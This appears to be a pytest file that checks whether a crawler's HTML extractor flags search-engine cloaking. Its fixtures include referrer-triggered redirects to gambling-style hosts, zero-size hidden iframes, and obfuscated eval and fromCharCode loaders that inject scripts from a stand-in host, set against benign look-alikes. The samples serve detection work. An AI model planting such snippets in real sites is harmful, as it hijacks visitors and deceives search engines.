# ruff: noqa: E501 (scripts are easier to read unbroken)
"""Scripts that lead elsewhere whom a search engine has sent are told from those that serve readers."""

import pytest

from crawler.extract import extract_html

ADDRESS = "https://www.haiyu.example.com/a/1.html"


def codes(text):
    return ",".join(str(ord(c)) for c in text)


def found(html, url=ADDRESS):
    page = f"<html><head><meta charset=utf-8><title>港口扩建</title>{html}</head><body><p>港口扩建工程昨天通过验收。</p></body></html>"
    return [f for f in extract_html(page.encode(), url=url).unseen if f.hidden_by == "script"]


@pytest.mark.parametrize(
    "script",
    [
        'var r=document.referrer;if(/(baidu|sogou|so\\.com)/i.test(r)){location.href="https://www.sold.example.net/?c=1"}',
        'if(document.referrer.indexOf("baidu.com")>-1&&h>20){window.location="//sold.example.net/bet"}',
        'if(document.referrer.match(/google|bing/)){top.location.replace("https://sold.example.net/")}',
        'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu")==-1){document.title="港口扩建"}',
        'if(!/Baiduspider|Googlebot/i.test(navigator.userAgent)){window.location.href="https://sold.example.net/"}',
        'if(/iphone|android/i.test(navigator.userAgent)){location.href="https://kk336.vip/reg"}',
        "eval(String.fromCharCode("
        + codes('document.write("<script src=//js.example.net/t.js></script>")')
        + "))",
        "eval(function(p,a,c,k,e,d){return p}('0(/1/2.3(4.5))6.7=\"//8.9/\"',10,10,'if|baidu|i|test|document|referrer|location|href|sold|net'.split('|'),0,{}))",
        'var u="https://sold.example.net/";if(/baidu|sogou/.test(document.referrer)){location.href=u;}',
        'if(/baidu|sogou/.test(document.referrer)){window.location["href"]="https://sold.example.net/"}',
        'if(/baidu|sogou/.test(document.referrer)){location.replace(atob("aHR0cHM6Ly9zb2xkLmV4YW1wbGUubmV0Lw=="))}',
        'if(document["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72"].indexOf("\\x62\\x61\\x69\\x64\\x75")>0){location.href="https://sold.example.net/"}',
    ],
)
def test_a_script_that_cloaks_is_found_whether_the_pages_address_is_known_or_not(script):
    for url in (ADDRESS, ""):
        assert len(found(f"<script>{script}</script>", url)) == 1


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="Refresh" content="0; url=https://kk336.vip/reg">',
        '<iframe src="https://t.bet88.top/1.html" width=0 height=0></iframe>',
    ],
)
def test_an_address_papers_lead_nobody_to_is_found(html):
    assert len(found(html)) == 1


@pytest.mark.parametrize(
    "html",
    [
        '<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.href="https://m.haiyu.example.com/1.html"}</script>',
        '<script>if(document.referrer.indexOf("baidu.com")>0){location.href="https://m.haiyu.example.com/1.html"}</script>',
        '<script>var bp=document.createElement("script");bp.src="https://zz.bdstatic.com/linksubmit/push.js";</script>',
        '<script>if(/baiduboxapp/i.test(navigator.userAgent)){document.title="港口扩建"}</script>',
        '<script>var m="https://m.haiyu.example.com/1";if(/baidu/.test(document.referrer)){location.href=m}</script>',
        "<img src=/1.jpg onerror=\"this.onerror=null;this.src='https://img.example.org/none.gif'\">",
        "<img src=/1.jpg onerror=\"var s=document.createElement('script');s.src='/js/pictures.js'\">",
        '<script>if(document.referrer.indexOf("google")>0){_hmt.push(["_trackEvent","from","google"])}</script>',
        "<script>document.write(unescape(\"%3Cscript src='https://hm.example.org/h.js'%3E%3C/script%3E\"))</script>",
        '<meta http-equiv="refresh" content="0;url=https://www.haiyu.example.com/b/2.html">',
        '<iframe src="https://player.example.org/v/1"></iframe>',
    ],
)
def test_scripts_that_serve_readers_are_none(html):
    assert found(html) == []


def test_a_library_is_not_read():
    script = 'if(document.referrer.indexOf("baidu")>0){location.href="https://sold.example.net/"}'
    assert found(f"<script>{script}{' ' * 10_000}</script>") == []


@pytest.mark.parametrize(
    "handler",
    [
        "var s=document.createElement('script');s.src='//js.example.net/t.js';document.body.appendChild(s)",
        "$.getScript('https://js.example.net/t.js')",
        "eval(String.fromCharCode("
        + codes("document.write('<script src=//js.example.net/t.js></script>')")
        + "))",
    ],
)
def test_a_picture_that_brings_in_a_script_is_found(handler):
    assert len(found(f'<img src=x onerror="{handler}">')) == 1


@pytest.mark.parametrize(
    "html",
    [
        '<meta http-equiv="refresh" content="0;url=https://other.example.org/">',
        '<iframe src="https://other.example.org/" width=0 height=0></iframe>',
    ],
)
def test_another_sites_address_that_readers_are_led_to_is_kept_for_the_detector(html):
    page = f"<html><body><p>港口扩建工程昨天通过验收。</p>{html}</body></html>"
    kept = [(f.text, f.hidden_by, f.kind) for f in extract_html(page.encode(), url=ADDRESS).unseen]
    assert kept == [("https://other.example.org/", "address", "code")]
